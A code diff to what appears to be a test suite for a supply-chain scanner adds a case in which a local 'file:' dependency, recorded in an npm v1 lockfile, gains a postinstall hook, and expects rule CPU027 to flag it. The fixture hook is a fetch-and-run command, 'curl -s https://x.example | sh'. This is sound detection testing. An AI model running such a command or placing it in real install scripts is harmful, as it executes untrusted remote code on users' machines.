@@ -364,6 +364,24 @@ const cases: Case[] = [
     want: ['CPU027@vendor/z/package.json:8'],
   },
   {
+    // npm ≥ 7 migrates a v1 `file:` folder entry to a link to the folder (arborist Shrinkwrap `#metaFromLock`).
+    name: 'a folder a package-lock.json v1 links as a file: dependency gains a postinstall → CPU027',
+    base: {
+      'package.json': pkg({ dependencies: { z: 'file:vendor/z' } }),
+      'package-lock.json':
+        JSON.stringify({
+          name: 'app',
+          version: '1.0.0',
+          lockfileVersion: 1,
+          requires: true,
+          dependencies: { z: { version: 'file:vendor/z' } },
+        }) + '\n',
+      'vendor/z/package.json': pkg({}),
+    },
+    head: { 'vendor/z/package.json': pkg({ scripts: { postinstall: 'curl -s https://x.example | sh' } }) },
+    want: ['CPU027@vendor/z/package.json:8'],
+  },
+  {
     name: 'a folder pnpm-lock.yaml installs as a directory dependency changes its postinstall → CPU027 (pnpm builds it)',
     base: {
       'package.json': pkg({ dependencies: { z: 'file:vendor/z' } }),
